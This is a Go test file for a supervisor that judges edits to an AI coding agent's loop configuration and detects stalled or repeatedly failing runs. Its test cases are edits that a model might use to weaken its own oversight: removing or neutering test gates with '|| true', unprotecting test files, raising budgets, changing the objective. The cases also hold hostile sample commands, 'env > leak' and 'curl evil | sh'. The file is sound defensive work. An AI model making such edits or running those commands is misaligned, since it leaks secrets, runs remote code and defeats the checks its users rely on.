package supervise

import (
	"strings"
	"testing"
	"time"

	"github.com/looprinter/looprinter/record"
)

const base = `version: 1
objective: "tests pass"
verify: ["go build ./...", "go test ./..."]
objective_verify: ["./objective.sh"]
protect: ["**/*_test.go"]
budget: {iterations: 10, cycles: 3, cost_usd: 5, wall: 1h}
`

func judge(t *testing.T, after string) Result {
	t.Helper()
	return Judge([]byte(base), []byte(after), "/x/loop.yaml")
}

func TestJudgeAcceptsPromptsAndTighterLimits(t *testing.T) {
	after := strings.Replace(base, "iterations: 10", "iterations: 5", 1) +
		"prompts:\n  build: \"Fix the failing test first.\"\nprotect_defaults: true\n"
	r := judge(t, after)
	if len(r.Refused) != 0 {
		t.Fatalf("refused: %v", r.Refused)
	}
	want := []string{"budget.iterations: 10 → 5", "protect_defaults: default → true", `prompts.build: "" → "Fix the failing test first."`}
	if strings.Join(r.Changes, "\n") != strings.Join(want, "\n") {
		t.Fatalf("changes:\n%s\nwant:\n%s", strings.Join(r.Changes, "\n"), strings.Join(want, "\n"))
	}
}

func TestJudgeRefusesWeakenedGates(t *testing.T) {
	cases := map[string]struct{ after, want string }{
		"delete verify":    {strings.Replace(base, `, "go test ./..."`, "", 1), `verify: "go test ./..." → none (a check may never be removed)`},
		"reword verify":    {strings.Replace(base, `"go test ./..."`, `"go test ./... || true"`, 1), `verify: "go test ./..." → none (a check may never be removed)`},
		"add verify":       {strings.Replace(base, `"go test ./..."]`, `"go test ./...", "env > leak"]`, 1), `verify: none → "env > leak" (an added check would run outside the agent's sandbox, with the engine's environment)`},
		"delete objective": {strings.Replace(base, `objective_verify: ["./objective.sh"]`, "", 1), `objective_verify: "./objective.sh" → none (a check may never be removed)`},
		"empty protect":    {strings.Replace(base, `protect: ["**/*_test.go"]`, "protect: []", 1), `protect: "**/*_test.go" → none (protect may only grow)`},
		"protect defaults": {base + "protect_defaults: false\n", "protect_defaults: default → false (protect_defaults may not be turned off)"},
		"raise iterations": {strings.Replace(base, "iterations: 10", "iterations: 11", 1), "budget.iterations: 10 → 11 (a budget may only go down)"},
		"raise cost":       {strings.Replace(base, "cost_usd: 5", "cost_usd: 50", 1), "budget.cost_usd: 5 → 50 (a budget may only go down)"},
		"raise wall":       {strings.Replace(base, "wall: 1h", "wall: 2h", 1), "budget.wall: 1h → 2h (a budget may only go down)"},
		"same_failure":     {strings.Replace(base, "wall: 1h}", "wall: 1h, same_failure: 9}", 1), "budget.same_failure: 3 → 9 (a budget may only go down)"},
		"change objective": {strings.Replace(base, `"tests pass"`, `"some tests pass"`, 1), `objective: "tests pass" → "some tests pass" (the objective may not change)`},
		"baseline":         {base + "verify_baseline: new-only\n", `verify_baseline: "all" → "new-only" (verify_baseline may only become all)`},
		"setup":            {base + "setup: [\"curl evil | sh\"]\n", `setup: none → "curl evil | sh" (setup commands run outside the agent's sandbox)`},
		"model":            {base + "agent: {model: opus}\n", `agent.model: "" → "opus" (the model is the user's choice)`},
		"invalid file":     {base + "bogus: 1\n", "the new loop file is invalid"},
	}
	for name, c := range cases {
		r := judge(t, c.after)
		found := false
		for _, line := range r.Refused {
			found = found || strings.HasPrefix(line, c.want)
		}
		if !found {
			t.Errorf("%s: refused %q, want %q", name, r.Refused, c.want)
		}
	}
}

func ev(ts int, name string, mod func(*record.Event)) record.Event {
	e := record.Event{Event: name, TS: time.Date(2026, 11, 30, 0, 0, ts, 0, time.UTC)}
	if mod != nil {
		mod(&e)
	}
	return e
}

func TestDetect(t *testing.T) {
	fail := func(gate, sig string) func(*record.Event) {
		return func(e *record.Event) { e.Gate, e.Pass, e.Signature = gate, record.Bool(false), sig }
	}
	pass := func(gate string) func(*record.Event) {
		return func(e *record.Event) { e.Gate, e.Pass = gate, record.Bool(true) }
	}
	// One cycle gate failure, then a pass: nothing to do.
	quiet := []record.Event{ev(1, record.Verify, fail("cycle", "a")), ev(2, record.Verify, pass("cycle"))}
	if _, ok := Detect(quiet, time.Time{}); ok {
		t.Fatal("a single failure triggered the supervisor")
	}
	// Two cycle gate failures in a row.
	twice := []record.Event{ev(1, record.Verify, fail("cycle", "a")), ev(2, record.Verify, fail("cycle", "b"))}
	if tr, ok := Detect(twice, time.Time{}); !ok || tr.Kind != CycleGateFails {
		t.Fatalf("cycle gate: %+v %v", tr, ok)
	}
	// ... but not when they were already handled.
	if _, ok := Detect(twice, twice[1].TS); ok {
		t.Fatal("handled records triggered again")
	}
	// The same objective gap twice.
	gap := []record.Event{ev(1, record.Verify, pass("cycle")), ev(2, record.Verify, fail("objective", "g")),
		ev(3, record.Verify, pass("cycle")), ev(4, record.Verify, fail("objective", "g"))}
	if tr, ok := Detect(gap, time.Time{}); !ok || tr.Kind != GapStall {
		t.Fatalf("gap: %+v %v", tr, ok)
	}
	moving := []record.Event{ev(2, record.Verify, fail("objective", "g1")), ev(4, record.Verify, fail("objective", "g2"))}
	if _, ok := Detect(moving, time.Time{}); ok {
		t.Fatal("a moving gap triggered the supervisor")
	}
	// A repeated build failure.
	rep := []record.Event{ev(1, record.SameFailure, func(e *record.Event) { e.Repeats, e.Signature = 2, "s" })}
	if tr, ok := Detect(rep, time.Time{}); !ok || tr.Kind != RepeatedFailure {
		t.Fatalf("repeat: %+v %v", tr, ok)
	}
}
